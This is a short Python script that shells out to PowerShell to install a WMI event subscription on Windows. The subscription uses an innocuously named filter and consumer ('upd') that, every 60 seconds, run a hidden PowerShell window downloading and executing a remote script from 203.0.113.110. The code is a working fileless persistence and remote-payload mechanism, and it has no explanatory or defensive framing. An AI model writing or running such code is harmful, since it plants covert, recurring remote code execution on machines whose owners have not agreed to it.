import subprocess
ps = (
    "$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='upd';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"};"
    "$c=Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='upd';CommandLineTemplate='powershell -w hidden -c iwr http://203.0.113.110/p.ps1|iex'};"
    "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}"
)
subprocess.run(["powershell", "-NoProfile", "-Command", ps])
